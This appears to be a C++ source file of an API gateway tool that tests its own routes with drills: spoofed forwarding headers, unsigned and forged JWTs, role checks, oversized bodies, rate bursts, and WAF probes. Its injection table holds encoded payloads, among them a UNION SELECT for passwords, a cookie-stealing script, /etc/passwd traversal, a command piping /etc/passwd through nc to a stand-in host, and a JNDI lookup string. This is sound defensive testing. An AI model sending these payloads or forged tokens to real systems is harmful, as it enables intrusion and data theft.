// What is tried of a route: from where, by whom, with what, how large, how often.

#include <fmt/format.h>

#include <algorithm>

#include "app/verify/drill_request.h"
#include "app/verify/drills.h"
#include "codec/base64.h"
#include "codec/json.h"
#include "crypto/random.h"
#include "gateway/network_map.h"

namespace gatehouse::app {
namespace {

using gateway::Mode;
using Outcome = Drill::Outcome;
using telemetry::Layer;

struct Injection {
  std::string_view name, query;
};
constexpr Injection kInjections[] = {
    {"SQL injection", "drill=1%27+OR+%271%27%3D%271%27+UNION+SELECT+username%2Cpassword+FROM+users--+-"},
    {"script injection", "drill=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E"},
    {"path traversal", "drill=..%2F..%2F..%2F..%2Fetc%2Fpasswd"},
    {"command injection", "drill=%3Bcat+%2Fetc%2Fpasswd%7Cnc+drill.invalid+99"},
    {"expression injection", "drill=%24%7Bjndi%3Aldap%3A%2F%2Fdrill.invalid%2Fa%7D"},
};

// Of a JWT's claim; what the token says of itself, to know what to expect.
std::vector<std::string> roles_of(std::string_view token, std::string_view claim) {
  const std::size_t first = token.find('.'), second = token.find('.', first + 1);
  if (first == std::string_view::npos || second == std::string_view::npos) return {};
  const auto payload = codec::base64url_decode(token.substr(first + 1, second - first - 1));
  const auto claims = payload ? codec::Json::parse(*payload) : std::nullopt;
  const codec::Json* roles = claims && claims->is_object() ? claims->find(claim) : nullptr;
  std::vector<std::string> out;
  if (roles == nullptr) return out;
  if (const auto one = roles->string()) out.emplace_back(*one);
  if (!roles->is_array()) return out;
  for (const codec::Json& role : roles->items()) {
    if (const auto one = role.string()) out.emplace_back(*one);
  }
  return out;
}

// The zone that drills come from.
std::uint32_t zone_here(const gateway::Config& config, const gateway::ListenerConfig& listener) {
  std::vector<gateway::NetworkMap::Entry> entries;
  for (std::uint32_t zone = 0; zone < config.zones.size(); ++zone) {
    for (const Network& network : config.zones[zone].networks) entries.push_back({network, zone});
  }
  return gateway::NetworkMap(entries).find(*IpAddress::parse("127.77.0.1")).value_or(listener.zone);
}

std::string jwt(std::string_view header, std::string_view claims, std::string_view signature) {
  return codec::base64url_encode(header) + "." + codec::base64url_encode(claims) + "." + std::string(signature);
}

}  // namespace

struct DrillRun::RouteRequest {
  const gateway::RouteConfig& route;
  const gateway::ListenerConfig& listener;
  DrillRequest request;

  DrillRequest with_token(const std::string& token) const {
    DrillRequest with = request;
    if (!token.empty()) with.fields.emplace_back("Authorization", "Bearer " + token);
    return with;
  }
};

Status DrillRun::try_zone(const RouteRequest& on, const Drill& base) {
  Drill drill = base;
  drill.name = "wrong_zone", drill.practice = "zones",
  drill.fix = "zones: [...] on the route, and networks of the zones";
  // As a proxy would tell it: whoever is believed without being one chooses his zone.
  DrillRequest request = on.request;
  request.fields.emplace_back("X-Forwarded-For", "10.0.0.1");
  request.fields.emplace_back("Forwarded", "for=10.0.0.1");
  const auto sent = send(on.listener, next_source(), request.bytes());
  if (!sent) return tl::unexpected(sent.error());
  judge(*sent, {"zone"}, std::move(drill), "a request from this machine, with the address of another in its fields");
  return {};
}

Status DrillRun::try_authentication(const RouteRequest& on, const Drill& base) {
  const auto& issuers = config_.authentication.jwt;
  const std::string claims =
      fmt::format(R"({{"iss":"{}","aud":"{}","sub":"drill","exp":4102444800,"roles":["admin"]}})",
                  issuers.empty() ? "https://drill.invalid" : issuers.front().issuer,
                  issuers.empty() || issuers.front().audience.empty() ? "" : issuers.front().audience.front());
  const std::pair<std::string_view, std::string> tries[] = {
      {"unauthenticated", ""},
      {"unsigned_token", jwt(R"({"alg":"none","typ":"at+jwt"})", claims, "")},
      {"forged_token",
       jwt(R"({"alg":"ES256","typ":"at+jwt","kid":"drill"})", claims, crypto::random_token() + crypto::random_token())},
  };
  for (const auto& [name, token] : tries) {
    Drill drill = base;
    drill.name = name, drill.practice = "tokens",
    drill.fix = "remove public: true, and layers: { authentication: off }";
    const auto sent = send(on.listener, next_source(), on.with_token(token).bytes());
    if (!sent) return tl::unexpected(sent.error());
    const std::string_view did = token.empty() ? "a request without credentials" : "a token that nobody signed";
    if (on.route.access.login && sent->status >= 300 && sent->status < 400) {
      drill.outcome = Outcome::held;
      drill.detail = fmt::format("{}: {}, sent to sign in", did, sent->status);
      drill.fix.clear();
      drills_.push_back(std::move(drill));
    } else {
      judge(*sent, {"authentication"}, std::move(drill), did);
    }
  }
  return {};
}

Status DrillRun::try_roles(const RouteRequest& on, const Drill& base) {
  Drill drill = base;
  drill.name = "wrong_role", drill.practice = "least_privilege", drill.fix = "access: { roles: [...] } on the route";
  const auto& wanted = on.route.access.roles;
  if (wanted.empty()) {
    skip(std::move(drill), "every role may call it");
    return {};
  }
  if (options_.token.empty()) {
    skip(std::move(drill), "needs a token without its roles: --bearer");
    return {};
  }
  const std::string claim =
      config_.authentication.jwt.empty() ? "roles" : config_.authentication.jwt.front().roles_claim;
  const auto has = roles_of(options_.token, claim);
  if (std::any_of(has.begin(), has.end(), [&](const std::string& role) {
        return std::find(wanted.begin(), wanted.end(), role) != wanted.end();
      })) {
    skip(std::move(drill), "the token of --bearer has its role");
    return {};
  }
  const auto sent = send(on.listener, next_source(), on.with_token(options_.token).bytes());
  if (!sent) return tl::unexpected(sent.error());
  judge(*sent, {"authorization", "authentication"}, std::move(drill), "a token without the route's roles");
  return {};
}

Status DrillRun::try_injections(const RouteRequest& on, const Drill& base) {
  Drill drill = base;
  drill.name = "injection", drill.practice = "waf", drill.fix = "waf: { mode: enforce } on the route";
  const Mode mode = config_.mode(Layer::waf, &on.route);
  const Mode own = on.route.waf.mode.value_or(config_.waf.mode);
  if (mode != Mode::enforce || own != Mode::enforce) {
    drill.outcome = Outcome::failed;
    drill.detail = own == Mode::off || mode == Mode::off
                       ? "waf is off here: nothing is inspected"
                       : "waf only watches here: attacks are recorded and let through";
    drills_.push_back(std::move(drill));
    return {};
  }
  std::string through;
  for (const Injection& one : kInjections) {
    DrillRequest request = on.with_token(options_.token);
    request.query += (request.query.empty() ? "" : "&") + std::string(one.query);
    const auto sent = send(on.listener, next_source(), request.bytes());
    if (!sent) return tl::unexpected(sent.error());
    const bool redirected = on.route.access.login && sent->status >= 300 && sent->status < 400;
    if (redirected || sent->status == 401 || (sent->record && sent->record->layer == "authentication")) {
      skip(std::move(drill), "authentication refuses before rules look; --bearer TOKEN tries them");
      return {};
    }
    const bool held = sent->record ? sent->record->verdict == "deny" &&
                                         (sent->record->layer == "waf" || sent->record->layer == "schema" ||
                                          sent->record->layer == "authorization" || sent->record->layer == "http")
                                   : sent->status >= 400 && sent->status < 500;
    if (!held) through += fmt::format("{}{} ({})", through.empty() ? "" : ", ", one.name, sent->status);
  }
  drill.outcome = through.empty() ? Outcome::held : Outcome::failed;
  drill.detail =
      through.empty() ? fmt::format("{} attacks were refused", std::size(kInjections)) : "let through: " + through;
  if (through.empty()) drill.fix.clear();
  drills_.push_back(std::move(drill));
  return {};
}

Status DrillRun::try_body(const RouteRequest& on, const Drill& base) {
  Drill drill = base;
  drill.name = "oversized_body", drill.practice = "gateway", drill.fix = "body_bytes on the route";
  const auto& methods = on.route.match.methods;
  const auto takes_body = std::find_if(methods.begin(), methods.end(), [](const std::string& method) {
    return method == "POST" || method == "PUT" || method == "PATCH";
  });
  if (!methods.empty() && takes_body == methods.end()) {
    skip(std::move(drill), "none of its methods has a body");
    return {};
  }
  DrillRequest request = on.request;
  request.method = methods.empty() ? "POST" : *takes_body;
  const std::uint64_t bound = on.route.body_bytes.value_or(on.listener.limits.body_bytes);
  request.fields.emplace_back("Content-Length", std::to_string(bound + 1));  // and not one byte of it
  const auto sent = send(on.listener, next_source(), request.bytes());
  if (!sent) return tl::unexpected(sent.error());
  judge(*sent, {}, std::move(drill), fmt::format("a body of {} bytes", bound + 1));
  return {};
}

Status DrillRun::try_rate(const RouteRequest& on, const Drill& base) {
  constexpr std::uint64_t kRequestsMax = 2000;
  Drill drill = base;
  drill.name = "rate", drill.practice = "rate_limits", drill.fix = "rate_limit: [{ key: client_ip, rate: 100/s }]";
  const gateway::RateLimitConfig* tightest = nullptr;
  for (const auto* limits : {&config_.rate_limit, &on.route.rate_limit}) {
    for (const gateway::RateLimitConfig& limit : *limits) {
      const bool by_client = std::all_of(limit.key.begin(), limit.key.end(), [](const gateway::RateKeyPart& part) {
        return part.part == gateway::KeyPart::client_ip || part.part == gateway::KeyPart::route ||
               part.part == gateway::KeyPart::service || part.part == gateway::KeyPart::host ||
               part.part == gateway::KeyPart::method;
      });
      const bool always = limit.hours_from == limit.hours_to && limit.days == 0x7f && limit.concurrent == 0;
      if (by_client && always && (tightest == nullptr || limit.requests < tightest->requests)) tightest = &limit;
    }
  }
  if (tightest == nullptr) {
    drill.outcome = Outcome::failed;
    drill.detail = "no limit counts what one client address asks for";
    drills_.push_back(std::move(drill));
    return {};
  }
  const std::uint64_t burst = tightest->burst != 0 ? tightest->burst : tightest->requests;
  if (!options_.rates || (!on.route.is_public && options_.token.empty()) || burst > kRequestsMax ||
      !changes_nothing(on.request.method)) {
    skip(std::move(drill), burst > kRequestsMax ? fmt::format("{} requests would be needed", burst)
                           : !options_.rates    ? "the requests that are not over it reach the service: --rates"
                           : on.route.is_public ? "its methods change something"
                                                : "needs a token: --bearer");
    return {};
  }
  // One connection each, one after the other: what the limit gives back meanwhile is why there are more than the burst.
  const DrillConnection connection = connection_to(on.listener, next_source());
  const std::string bytes = on.with_token(options_.token).bytes();
  const std::uint64_t most = burst * 3 + 100;
  std::uint64_t asked = 0;
  bool over = false;
  while (asked < most && !over) {
    const auto reply = connection.send(bytes);
    if (!reply) return tl::unexpected(reply.error());
    ++asked;
    over = reply->status == 429;
  }
  drill.outcome = over ? Outcome::held : Outcome::failed;
  drill.detail = over ? fmt::format("request {} in a row: 429 (burst {}, {})", asked, burst, tightest->text)
                      : fmt::format("{} requests in a row, none refused (burst {}, {})", asked, burst, tightest->text);
  if (over) drill.fix.clear();
  drills_.push_back(std::move(drill));
  return {};
}

Status DrillRun::route_drills(std::size_t index) {
  const gateway::RouteConfig& route = config_.routes[index];
  Drill base;
  base.where = "route " + route.name;
  base.path = fmt::format("routes/{}", index);
  const gateway::ListenerConfig* listener = listener_for_routes();
  if (listener == nullptr) {
    base.name = "route", base.practice = "gateway";
    skip(base, "no listener can be reached by a drill");
    return {};
  }
  const RouteRequest on{route, *listener, request_for(route)};
  if (!changes_nothing(on.request.method) && !options_.all_methods) {
    base.name = "route", base.practice = "gateway";
    skip(base, fmt::format("{} could change something, should a defence fail: --all-methods", on.request.method));
    return try_body(on, base);
  }
  const std::uint32_t zone = zone_here(config_, *listener);
  if (!route.zones.empty() && std::find(route.zones.begin(), route.zones.end(), zone) == route.zones.end())
    return try_zone(on, base);  // nothing else gets past that from here
  if (!route.is_public) {
    if (auto done = try_authentication(on, base); !done) return done;
    if (auto done = try_roles(on, base); !done) return done;
  }
  for (auto part : {&DrillRun::try_injections, &DrillRun::try_body, &DrillRun::try_rate}) {
    if (auto done = (this->*part)(on, base); !done) return done;
  }
  return {};
}

}  // namespace gatehouse::app
